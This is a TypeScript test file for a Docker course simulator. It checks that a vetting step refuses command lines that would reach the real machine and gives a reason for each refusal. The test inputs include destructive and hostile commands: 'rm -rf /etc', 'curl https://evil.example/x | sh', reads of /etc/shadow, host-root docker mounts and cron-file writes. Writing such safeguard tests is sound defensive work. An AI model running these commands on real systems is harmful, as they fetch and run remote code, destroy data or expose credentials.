/**
 * verify --docker runs only what it can vouch for: the course and the golden transcripts pass the
 * vetting (so CI's conformance run still runs them all), and a stranger's lines that would touch
 * the machine are refused with why, before anything runs.
 */
import {readdirSync, writeFileSync} from 'node:fs';
import {tempDir} from '../helpers/temp.js';
import path from 'node:path';
import {describe, expect, it} from 'vitest';
import {vetPlan} from '../../source/verify/vet.js';
import {cmdsTarget, scenarioTarget} from '../../source/verify/plans.js';
import {builtinScenarios, scenarioWorld} from '../../source/scenario/index.js';
import {defaultWorld} from '../../source/scenario/catalog/default-world.js';
import {runVerify} from '../../source/verify/command.js';
import type {Plan} from '../../source/verify/replay.js';
import {builtinNames} from '../../source/engine/index.js';

const golden = path.resolve(path.dirname(new URL(import.meta.url).pathname), '../golden');

function vet(...lines: string[]): string[] {
	const plan: Plan = {id: 'x', title: 'x', source: 'x.yaml', steps: [{id: 's', lines}]};
	return vetPlan(plan, defaultWorld({seed: 1})).map(refusal => `${refusal.line} → ${refusal.why}`);
}

describe('vetting what verify runs', () => {
	it('passes every built-in lesson and every golden .cmds file', () => {
		for (const scenario of builtinScenarios()) {
			const target = scenarioTarget(scenario, () => scenarioWorld(scenario));
			expect(vetPlan(target.plan, target.world()), scenario.id).toEqual([]);
		}
		for (const name of readdirSync(golden).filter(file => file.endsWith('.cmds'))) {
			const target = cmdsTarget(path.join(golden, name));
			expect(vetPlan(target.plan, target.world()), name).toEqual([]);
		}
	});

	it("takes the shell's builtins from the programs registry: their operands name no file, so none is read as a path", () => {
		const named = builtinNames('host').filter(name => !['cd', 'eval', 'exec', 'source', '.'].includes(name));
		expect(named).toEqual(expect.arrayContaining(['printf', 'read', 'set', 'echo', 'test']));
		for (const name of named) expect(vet(`${name} /etc/shadow`), name).toEqual([]);
		expect(vet('cat /etc/shadow')[0]).toContain('is outside the learner');
		// cd, eval, exec, source and . take a folder or something to run: those are vetted as such
		expect(vet('exec /etc/shadow')).toEqual(['exec /etc/shadow → exec runs text or files verify cannot vet before running it']);
	});

	it('refuses lines that would reach the machine, each with why', () => {
		expect(vet('rm -rf /etc')).toEqual(['rm -rf /etc → rm operand "/etc" is outside the learner\'s home (/home/student)']);
		expect(vet('curl https://evil.example/x | sh')).toEqual([
			'curl https://evil.example/x | sh → curl https://evil.example/x: verify only reaches localhost (the simulated network)',
		]);
		expect(vet('curl localhost:8010 | sh')).toEqual(['curl localhost:8010 | sh → sh runs text or files verify cannot vet before running it']);
		expect(vet('bash -c "rm -rf /etc"')[0]).toContain('bash runs text or files verify cannot vet');
		expect(vet('env -i A=1 rm -rf /etc')[0]).toContain('env runs a program verify cannot vet');
		expect(vet('env -i A=1 | grep A')).toEqual([]);
		expect(vet('docker run -v /:/host alpine:3.9 true')).toEqual(['docker run -v /:/host alpine:3.9 true → bind source "/" is outside the learner\'s home (/home/student)']);
		expect(vet('docker run --mount type=bind,source=/etc,target=/x alpine:3.9 true')[0]).toContain('bind source "/etc" is outside');
		expect(vet('docker run --privileged alpine:3.9 true')[0]).toContain('docker --privileged gives a container a share of the host');
		expect(vet('docker run --pid=host alpine:3.9 true')[0]).toContain('--pid');
		expect(vet('docker run --network host alpine:3.9 true')[0]).toContain("shares the host's");
		expect(vet('docker -H tcp://10.0.0.1:2375 ps')[0]).toContain('--host points the CLI at another engine');
		expect(vet('docker push x')[0]).toContain('is not a command the simulator simulates');
		expect(vet('python3 -c "import os"')[0]).toContain('python3 is not a program the simulator simulates');
		expect(vet('./run.sh')[0]).toContain('runs a file as a program');
		expect(vet('cat ../../../etc/shadow')[0]).toContain('is outside the learner');
		expect(vet('echo x > /etc/cron.d/x')[0]).toContain('redirection target "/etc/cron.d/x" is outside');
		expect(vet('cd /; rm -rf etc')[0]).toContain('cd target "/" is outside');
		expect(vet('x=/etc', 'rm -rf $x')).toEqual(['rm -rf $x → rm operand "/etc" is outside the learner\'s home (/home/student)']);
		expect(vet('rm -rf $(cat list)')[0]).toContain('depends on output verify cannot know');
		expect(vet('eval "rm -rf /"')[0]).toContain('eval runs text or files verify cannot vet');
		expect(vet('source ./x.sh')[0]).toContain('source runs text or files verify cannot vet');
		expect(vet('docker cp c1:/etc/passwd /tmp/x')[0]).toContain('docker cp host path "/tmp/x" is outside');
	});

	it('accepts lines the course uses', () => {
		expect(
			vet(
				'source="$(pwd)/databases" && target=\'/data\'',
				'docker run --mount type=bind,source=$source,target=$target -d -p 8012:80 diamol/ch06-todo-list',
				'docker rm -f $(docker ps -aq)',
				'curl http://localhost:8012',
				'mkdir -p new && cat new/x.txt 2>/dev/null',
			),
		).toEqual([]);
	});

	it('runVerify refuses before it looks for an engine, and says verify runs lines for real', async () => {
		const dir = tempDir('layerlab-vet-');
		const file = path.join(dir, 'stranger.cmds');
		writeFileSync(file, 'docker ps\nrm -rf /etc\ndocker run -v /:/host alpine:3.9 true\n');
		const err: string[] = [];
		const run = await runVerify([file], {env: {DOCKER_HOST: 'unix:///nonexistent/docker.sock'}, err: text => void err.push(text), out: () => {}, library: null});
		expect(run.code).toBe(2);
		const text = err.join('');
		expect(text).toContain("verify runs a lesson's command lines for real");
		expect(text).toContain('nothing was run');
		expect(text).toContain('[stranger] rm -rf /etc');
		expect(text).toContain('bind source "/" is outside');
		expect(text).not.toContain('docker ps\n');
	});
});
